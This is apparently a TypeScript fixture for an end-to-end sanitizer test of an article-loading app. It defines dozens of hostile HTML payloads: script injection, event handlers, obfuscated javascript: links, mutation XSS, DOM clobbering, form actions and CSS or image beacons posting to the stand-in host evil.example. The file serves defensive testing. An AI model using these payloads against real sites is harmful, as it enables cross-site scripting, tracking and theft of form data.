/**
 * Hostile article payloads for `hostile-articles.e2e.ts`. Every payload that
 * could run sets `window.__pwned` to its case name or calls `alert` with it;
 * every remote reference points at https://evil.example/ (the machine has no
 * network: the test records requests instead). Each case carries a benign
 * sentence, unique to it, that must appear in the loaded article's text.
 */

/** How a payload reaches the app. */
export type Way =
  /** HTML on the clipboard, pasted into the "Article text" box. */
  | 'paste'
  /** A bare HTML fragment in an .html file, chosen through "Open article file". */
  | 'file'
  /** A full saved page: <head> with metadata, navigation, the payload inside the article body. */
  | 'page';

export type Family =
  | 'script'
  | 'event handler'
  | 'svg'
  | 'javascript: link'
  | 'iframe'
  | 'object/embed'
  | 'meta refresh'
  | 'base href'
  | 'form'
  | 'css beacon'
  | 'remote media'
  | 'dom clobbering'
  | 'mutation xss'
  | 'data: url'
  | 'invisible characters'
  | 'size';

export interface HostileCase {
  name: string;
  family: Family;
  way: Way;
  /** What is delivered: clipboard HTML, the file's content (a saved page for 'page'). */
  html: string;
  /** Text that must be in the loaded article (for 'size': text the refusal must contain). */
  expected: string;
  /** File name for 'file' and 'page' cases. */
  fileName: string;
  /** Built in the page itself (too big to send over the wire); only for 'size' cases. */
  generated?: 'nested-divs' | 'twenty-megabytes';
  /**
   * A real defect this case exposes in the app: the test keeps its strict assertions and is
   * expected to fail (`it.fails`) until the defect is fixed; then remove this mark.
   */
  knownDefect?: string;
}

interface Draft {
  name: string;
  family: Family;
  /** The payload; `{S}` marks where the benign sentence goes (else it follows the payload). */
  payload: string;
  /** Goes into the saved page's <head> (forces the 'page' way). */
  head?: string;
  /** The sentence as it should read after loading, if loading changes it (invisible characters). */
  expected?: string;
  /** The sentence as written into the payload, when it differs from the default. */
  sentence?: string;
  way?: Way;
}

const pwn = (name: string) => `window.__pwned='${name}'`;
const EVIL = 'https://evil.example';

const drafts: Draft[] = [
  // <script>
  {
    name: 'script-inline',
    family: 'script',
    payload: `<p>{S}</p><script>${pwn('script-inline')}</script>`,
  },
  {
    name: 'script-src',
    family: 'script',
    payload: `<script src="${EVIL}/x.js"></script><p>{S}</p>`,
  },
  {
    name: 'script-module',
    family: 'script',
    payload: `<script type="module">${pwn('script-module')}; import('${EVIL}/m.js')</script><p>{S}</p>`,
  },
  {
    name: 'script-in-head',
    family: 'script',
    head: `<script>${pwn('script-in-head')}; location='${EVIL}/head'</script><script src="${EVIL}/head.js" defer></script>`,
    payload: `<p>{S}</p>`,
  },
  // event handlers
  {
    name: 'img-onerror',
    family: 'event handler',
    payload: `<p>{S}<img src="x" onerror="${pwn('img-onerror')}"></p>`,
  },
  {
    name: 'body-onload',
    family: 'event handler',
    payload: `<body onload="${pwn('body-onload')}"><p>{S}</p></body>`,
  },
  {
    name: 'onmouseover',
    family: 'event handler',
    payload: `<p onmouseover="${pwn('onmouseover')}">{S}</p><b onmouseover="alert('onmouseover')">bold words</b>`,
  },
  {
    name: 'onfocus-autofocus',
    family: 'event handler',
    payload: `<p>{S}</p><input autofocus onfocus="${pwn('onfocus-autofocus')}"><a href="https://example.org/" tabindex="1" autofocus onfocus="alert('onfocus-autofocus')">a link</a>`,
  },
  {
    name: 'details-ontoggle',
    family: 'event handler',
    payload: `<details open ontoggle="${pwn('details-ontoggle')}"><summary>Summary</summary><p>{S}</p></details>`,
  },
  // <svg>
  {
    name: 'svg-onload',
    family: 'svg',
    payload: `<svg onload="${pwn('svg-onload')}"><circle r="4"/></svg><p>{S}</p>`,
  },
  {
    name: 'svg-script',
    family: 'svg',
    payload: `<svg><script>${pwn('svg-script')}</script><script href="${EVIL}/svg.js"></script></svg><p>{S}</p>`,
  },
  {
    name: 'svg-use-href',
    family: 'svg',
    payload: `<svg><use href="${EVIL}/sprite.svg#x"/><use xlink:href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='${pwn('svg-use-href')}'/&gt;&lt;/svg&gt;#x"/></svg><p>{S}</p>`,
  },
  {
    name: 'svg-animate-onbegin',
    family: 'svg',
    payload: `<svg><animate onbegin="${pwn('svg-animate-onbegin')}" attributeName="x" dur="1s"/><set attributeName="href" to="javascript:alert('svg-animate-onbegin')" onbegin="alert('svg-animate-onbegin')"/></svg><p>{S}</p>`,
  },
  // obfuscated javascript: links
  {
    name: 'js-mixed-case',
    family: 'javascript: link',
    payload: `<p>{S} <a href="JaVaScRiPt:${pwn('js-mixed-case')}">minutes</a></p>`,
  },
  {
    name: 'js-tab',
    family: 'javascript: link',
    payload: `<p>{S} <a href="java\tscript:${pwn('js-tab')}">minutes</a> <a href="java&#x09;script:alert('js-tab')">annex</a></p>`,
  },
  {
    name: 'js-newline',
    family: 'javascript: link',
    payload: `<p>{S} <a href="java\nscript:${pwn('js-newline')}">minutes</a> <a href="javas&#10;cript:alert('js-newline')">annex</a></p>`,
  },
  {
    name: 'js-entity-decimal',
    family: 'javascript: link',
    payload: `<p>{S} <a href="&#106;avascript:${pwn('js-entity-decimal')}">minutes</a> <a href="&#0000106&#0000097vascript:alert('js-entity-decimal')">annex</a></p>`,
  },
  {
    name: 'js-entity-hex',
    family: 'javascript: link',
    payload: `<p>{S} <a href="&#x6A;avascript:${pwn('js-entity-hex')}">minutes</a> <a href="&#x6a&#x61vascript&#x3A;alert('js-entity-hex')">annex</a></p>`,
  },
  {
    name: 'js-leading-spaces',
    family: 'javascript: link',
    payload: `<p>{S} <a href="   \t javascript:${pwn('js-leading-spaces')}">minutes</a> <a href="&#x20;&#x0C;javascript:alert('js-leading-spaces')">annex</a></p>`,
  },
  {
    name: 'js-nul',
    family: 'javascript: link',
    // a file with a literal NUL byte is refused as binary, so this one is pasted
    way: 'paste',
    payload: `<p>{S} <a href="java\0script:${pwn('js-nul')}">minutes</a> <a href="java&#0;script:alert('js-nul')">annex</a></p>`,
  },
  {
    name: 'js-vbscript-and-relative',
    family: 'javascript: link',
    payload: `<p>{S} <a href="vbscript:msgbox('js-vbscript')">memo</a> <a href="//evil.example/x">proto-relative</a> <a href="javascript://%0a${pwn('js-vbscript-and-relative')}">comment trick</a></p>`,
  },
  // iframes
  {
    name: 'iframe-src',
    family: 'iframe',
    payload: `<iframe src="${EVIL}/frame" onload="${pwn('iframe-src')}"></iframe><p>{S}</p>`,
  },
  {
    name: 'iframe-srcdoc',
    family: 'iframe',
    payload: `<iframe srcdoc="&lt;script&gt;parent.${pwn('iframe-srcdoc')}&lt;/script&gt;&lt;img src=${EVIL}/srcdoc.png&gt;"></iframe><p>{S}</p>`,
  },
  {
    name: 'iframe-javascript-src',
    family: 'iframe',
    payload: `<p>{S}</p><iframe src="javascript:parent.${pwn('iframe-javascript-src')}"></iframe><frameset><frame src="${EVIL}/frame2"></frameset>`,
  },
  // <object>, <embed>
  {
    name: 'object-data',
    family: 'object/embed',
    payload: `<object data="${EVIL}/movie.swf" type="application/x-shockwave-flash"><param name="src" value="${EVIL}/p.swf">OBJECT FALLBACK</object><p>{S}</p>`,
  },
  {
    name: 'embed-src',
    family: 'object/embed',
    payload: `<embed src="${EVIL}/plugin.swf"><embed src="data:text/html,&lt;script&gt;parent.${pwn('embed-src')}&lt;/script&gt;" type="text/html"><p>{S}</p>`,
  },
  // <meta http-equiv=refresh>
  {
    name: 'meta-refresh-head',
    family: 'meta refresh',
    head: `<meta http-equiv="refresh" content="0; url=${EVIL}/refresh">`,
    payload: `<p>{S}</p>`,
  },
  {
    name: 'meta-refresh-body',
    family: 'meta refresh',
    payload: `<meta http-equiv="refresh" content="0;url=javascript:${pwn('meta-refresh-body')}"><meta http-equiv="refresh" content="0; url=${EVIL}/body-refresh"><p>{S}</p>`,
  },
  // <base href>
  {
    name: 'base-href-head',
    family: 'base href',
    head: `<base href="${EVIL}/base/">`,
    payload: `<p>{S} <a href="relative/page">relative link</a><img src="relative.png"></p>`,
  },
  {
    name: 'base-href-body',
    family: 'base href',
    payload: `<base href="javascript:${pwn('base-href-body')}//"><p>{S} <a href="x">relative link</a></p>`,
  },
  // forms
  {
    name: 'form-action',
    family: 'form',
    payload: `<form action="${EVIL}/collect" method="post"><input name="email" value="a@b.c" autofocus><input type="submit" value="Send"></form><p>{S}</p>`,
  },
  {
    name: 'button-formaction',
    family: 'form',
    payload: `<p>{S}</p><form><button formaction="javascript:${pwn('button-formaction')}">Go</button><button formaction="${EVIL}/other" autofocus>Subscribe</button></form><isindex action="${EVIL}/isindex">`,
  },
  // CSS beacons
  {
    name: 'style-import',
    family: 'css beacon',
    payload: `<style>@import url("${EVIL}/import.css"); @import '${EVIL}/import2.css';</style><p>{S}</p>`,
  },
  {
    name: 'style-url',
    family: 'css beacon',
    payload: `<style>p { background: url(${EVIL}/bg.png) } @font-face { font-family: x; src: url(${EVIL}/font.woff) } p { font-family: x }</style><p>{S}</p>`,
  },
  {
    name: 'style-attribute',
    family: 'css beacon',
    payload: `<p style="background-image:url('${EVIL}/attr.png'); list-style: url(${EVIL}/list.png)">{S}</p><div style="behavior:url(${EVIL}/x.htc); width: expression(alert('style-attribute'))">x</div>`,
  },
  {
    name: 'link-stylesheet',
    family: 'css beacon',
    head: `<link rel="stylesheet" href="${EVIL}/style.css"><link rel="preload" as="image" href="${EVIL}/preload.png"><link rel="prefetch" href="${EVIL}/prefetch"><link rel="icon" href="${EVIL}/favicon.ico">`,
    payload: `<p>{S}</p>`,
  },
  // remote images and media
  {
    name: 'img-remote',
    family: 'remote media',
    payload: `<p>{S}</p><img src="${EVIL}/pixel.gif" alt="tracking pixel" width="1" height="1"><img src="//evil.example/proto.gif" loading="eager">`,
  },
  {
    name: 'img-srcset',
    family: 'remote media',
    payload: `<p>{S}</p><img srcset="${EVIL}/a.jpg 1x, ${EVIL}/b.jpg 2x" alt="srcset image">`,
  },
  {
    name: 'picture-source',
    family: 'remote media',
    payload: `<picture><source srcset="${EVIL}/photo.webp" type="image/webp"><source media="(min-width: 1px)" srcset="${EVIL}/photo.avif"><img src="${EVIL}/photo.jpg" alt="picture image"></picture><p>{S}</p>`,
  },
  {
    name: 'video-poster',
    family: 'remote media',
    payload: `<video poster="${EVIL}/poster.jpg" src="${EVIL}/v.mp4" autoplay><track src="${EVIL}/t.vtt"></video><audio src="${EVIL}/a.mp3" autoplay onplay="${pwn('video-poster')}"></audio><p>{S}</p>`,
  },
  {
    name: 'input-image-and-background',
    family: 'remote media',
    payload: `<table background="${EVIL}/table.png"><tr><td background="${EVIL}/td.png"><p>{S}</p></td></tr></table><input type="image" src="${EVIL}/input.png">`,
  },
  // DOM clobbering
  {
    name: 'clobber-proto',
    family: 'dom clobbering',
    payload: `<p id="__proto__" name="__proto__">{S}</p><a id="__pwned" href="${EVIL}/clobber">clobber link</a>`,
  },
  {
    name: 'clobber-document-form',
    family: 'dom clobbering',
    payload: `<form id="document" name="document"><input name="cookie" value="clobbered"><input name="body"></form><p>{S}</p>`,
  },
  {
    name: 'clobber-getElementById',
    family: 'dom clobbering',
    payload: `<img name="getElementById" src="${EVIL}/clobber.png"><img name="createElement"><form name="querySelector"></form><p id="location" name="location">{S}</p>`,
  },
  // mutation XSS
  {
    name: 'mxss-noscript',
    family: 'mutation xss',
    payload: `<p>{S}</p><noscript><p title="</noscript><img src=x onerror=${pwn('mxss-noscript')}>"></p></noscript>`,
  },
  {
    name: 'mxss-math-mglyph',
    family: 'mutation xss',
    payload: `<p>{S}</p><math><mtext><table><mglyph><style><img src=x onerror=${pwn('mxss-math-mglyph')}></style></mglyph></table></mtext></math>`,
  },
  {
    name: 'mxss-svg-style',
    family: 'mutation xss',
    payload: `<p>{S}</p><svg></p><style><a id="</style><img src=1 onerror=${pwn('mxss-svg-style')}>">`,
  },
  {
    name: 'mxss-template-comment',
    family: 'mutation xss',
    payload: `<p>{S}</p><template><img src=x onerror="${pwn('mxss-template-comment')}"></template><!--><img src=x onerror="alert('mxss-template-comment')">-->`,
  },
  // data: URLs
  {
    name: 'data-link',
    family: 'data: url',
    payload: `<p>{S} <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">summary</a> <a href="DATA:text/html,&lt;script&gt;alert('data-link')&lt;/script&gt;">other</a></p>`,
  },
  {
    name: 'data-svg-image',
    family: 'data: url',
    payload: `<p>{S}</p><img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='${pwn('data-svg-image')}'%3E%3Cimage href='${EVIL}/inner.png'/%3E%3C/svg%3E" alt="svg data image">`,
  },
  // invisible characters
  {
    name: 'bidi-override',
    family: 'invisible characters',
    sentence: 'The bidi case reports \u202Eharbour\u202C vote results.',
    payload: `<p>{S}</p><p>\u202Egnp.exe</p>`,
  },
  {
    name: 'zero-width',
    family: 'invisible characters',
    sentence: 'The zero\u200Bwidth case re\u2060ports the har\uFEFFbour vote.',
    expected: 'The zerowidth case reports the harbour vote.',
    payload: `<p>{S}</p><p>\u200B\u200B\u200B</p>`,
  },
];

const WAYS: Way[] = ['paste', 'file', 'page'];

/** A saved web page around `payload`: metadata, navigation, the payload in the article body. */
function savedPage(title: string, head: string, body: string): string {
  return `<!DOCTYPE html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <title>${title}</title>
  <meta property="og:title" content="${title}">
  <meta property="og:site_name" content="Harbour Gazette">
  <meta name="author" content="Ana Ortiz">
  <link rel="canonical" href="https://news.example.org/2024/${title.replace(/\W+/g, '-')}">
  ${head}
</head>
<body>
  <nav><a href="https://news.example.org/">Home</a> <a href="https://news.example.org/politics">Politics</a></nav>
  <main>
    <article>
      <h1>${title}</h1>
      <p>The city council met on Tuesday to vote on the harbour budget after a year of delay.</p>
      ${body}
      <p>Work on the northern basin is due to start in September, the finance office said.</p>
    </article>
  </main>
  <footer><p>Copyright Harbour Gazette</p></footer>
</body>
</html>`;
}

export const hostileCases: HostileCase[] = drafts.map((d, i): HostileCase => {
  const way = d.head !== undefined ? 'page' : (d.way ?? WAYS[i % WAYS.length] ?? 'file');
  const sentence =
    d.sentence ?? `Hostile case ${d.name} reports that the harbour vote passed seven to two.`;
  const payload = d.payload.includes('{S}') ? d.payload.replace('{S}', sentence) : d.payload;
  const html =
    way === 'page' ? savedPage(`Harbour vote, case ${d.name}`, d.head ?? '', payload) : payload;
  return {
    name: d.name,
    family: d.family,
    way,
    html,
    expected: d.expected ?? sentence,
    fileName: `${d.name}.html`,
  };
});

/** Cases that must be refused quickly with a clear message, leaving the tab responsive. */
export const sizeCases: HostileCase[] = [
  {
    name: 'nested-divs-file',
    family: 'size',
    way: 'file',
    html: '',
    generated: 'nested-divs',
    expected: 'nest more than',
    fileName: 'nested.html',
  },
  {
    name: 'nested-divs-paste',
    family: 'size',
    way: 'paste',
    html: '',
    generated: 'nested-divs',
    expected: 'nest more than',
    fileName: '',
  },
  {
    name: 'twenty-megabytes-file',
    family: 'size',
    way: 'file',
    html: '',
    generated: 'twenty-megabytes',
    expected: 'Factmark loads files of up to',
    fileName: 'huge.txt',
  },
  {
    name: 'twenty-megabytes-paste',
    family: 'size',
    way: 'paste',
    html: '',
    generated: 'twenty-megabytes',
    expected: 'Factmark loads pastes of up to',
    fileName: '',
    // found by this test: the dialog used to put all 20 MB into the text area before refusing
    // the paste, which froze the tab for about 10 s; long pastes are now read, not shown
  },
];
